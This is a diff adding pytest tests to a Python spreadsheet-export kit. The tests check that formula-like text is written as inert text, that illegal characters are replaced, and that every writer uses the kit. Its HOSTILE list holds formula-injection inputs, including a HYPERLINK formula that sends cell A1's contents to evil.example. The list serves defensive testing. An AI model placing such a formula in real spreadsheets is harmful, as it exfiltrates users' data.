@@ -8,6 +8,7 @@ import io
 from pathlib import Path
 
 import openpyxl
+import pytest
 from openpyxl import Workbook
 
 from documents import sheets
@@ -83,3 +84,79 @@ def test_borders_and_the_sheet_fonts_are_defined_in_the_kit_only():
         source = path.read_text(encoding="utf-8")
         for spelled in ("Border(", "Side(", "仿宋_GB2312", "黑体", "方正小标宋简体", "wb.save(", "BytesIO("):
             assert spelled not in source, f"{path.name} spells {spelled}"
+
+
+# --- text stays text; what XLSX cannot hold is replaced (issue 9: exports) ------------------------------------
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1", "@SUM(A1)", "-2", "-5度", "\t=1+1", "\n=1+1",
+           "＝1+1"]
+
+
+def _written(values, *, write_only: bool = False):
+    wb = Workbook(write_only=write_only)
+    if write_only:
+        ws = wb.create_sheet("x")
+        ws.append([sheets.write_only_cell(ws, v) for v in values])
+    else:
+        ws = wb.active
+        for column, value in enumerate(values, start=1):
+            sheets.cell(ws, 1, column, value)
+    return list(openpyxl.load_workbook(io.BytesIO(sheets.workbook_bytes(wb))).active[1])
+
+
+@pytest.mark.parametrize("write_only", [False, True])
+def test_a_text_that_looks_like_a_formula_is_written_as_that_exact_text_with_the_quote_prefix(write_only):
+    cells = _written(HOSTILE, write_only=write_only)
+    assert [c.value for c in cells] == HOSTILE  # nothing added or removed: "-5度" still reads "-5度"
+    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)  # never "f": no live formula
+    assert all(c.quotePrefix for c in cells)  # and it stays text when the cell is edited in Excel
+    carriage = _written(["\r=1+1", "行一\r\n行二"], write_only=write_only)
+    assert [(c.value, c.data_type, c.quotePrefix) for c in carriage] == [("\n=1+1", "s", True), ("行一\n行二", "s", False)]
+
+
+@pytest.mark.parametrize("write_only", [False, True])
+def test_plain_text_error_codes_numbers_and_dates_keep_their_types(write_only):
+    cells = _written(["上海宏达", "#N/A", 5, -2, 1.5, dt.date(2023, 7, 10), None, "末"], write_only=write_only)
+    assert [c.data_type for c in cells[:5]] == ["s", "s", "n", "n", "n"]
+    assert [c.value for c in cells[:5]] == ["上海宏达", "#N/A", 5, -2, 1.5]
+    assert not cells[0].quotePrefix and not cells[1].quotePrefix
+    assert cells[5].is_date and cells[5].number_format == sheets.DATE_FORMAT and cells[6].value is None
+
+
+@pytest.mark.parametrize("write_only", [False, True])
+def test_characters_xlsx_cannot_hold_become_the_replacement_character(write_only):
+    raw = ["响\x07铃", "\x00\x08\x0b\x0c\x0e\x1f", "行一\n行二\t列", "\ufffe\uffff"]
+    cells = _written(raw, write_only=write_only)  # openpyxl alone raises IllegalCharacterError on the first
+    assert [c.value for c in cells] == ["响\ufffd铃", "\ufffd" * 6, "行一\n行二\t列", "\ufffd\ufffd"]
+    assert sheets.clean_text("x" * 40_000) == "x" * sheets.MAX_CELL_TEXT
+
+
+def _sets_a_cell_directly(node: ast.AST) -> bool:
+    """A cell written without the kit: ws.cell(…, value=…) or with a third argument, WriteOnlyCell(…),
+    ws["A1"] = …, cell.value = …, or sheet.append([...]) of anything but the kit's cells."""
+    if isinstance(node, ast.Call):
+        func = node.func
+        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
+        if name == "cell" and not (isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "sheets"):
+            return len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)
+        if name == "WriteOnlyCell":
+            return True
+        receiver = getattr(func, "value", None)
+        if name == "append" and getattr(receiver, "id", "") in ("ws", "sheet") and node.args and isinstance(node.args[0], (ast.List, ast.ListComp)):
+            elements = node.args[0].elts if isinstance(node.args[0], ast.List) else [node.args[0].elt]
+            return not all(isinstance(e, ast.Call) and isinstance(e.func, ast.Attribute)
+                           and getattr(e.func.value, "id", "") == "sheets" for e in elements)
+    if isinstance(node, (ast.Assign, ast.AugAssign)):
+        targets = node.targets if isinstance(node, ast.Assign) else [node.target]
+        return any(isinstance(t, ast.Subscript) or (isinstance(t, ast.Attribute) and t.attr == "value")
+                   for t in targets)
+    return False
+
+
+def test_every_sheet_writer_sets_its_cells_through_the_kit():
+    writers = [p for p in DOCUMENTS.glob("*.py") if p.name != "sheets.py" and "openpyxl" in p.read_text("utf-8")]
+    assert {p.name for p in writers} >= {"item_export.py", "issue_list.py", "ledger_report.py", "statistics_report.py"}
+    for path in writers:
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        offending = [n.lineno for n in ast.walk(tree) if _sets_a_cell_directly(n)]
+        assert not offending, f"{path.name} writes cells outside documents.sheets.put at lines {offending}"
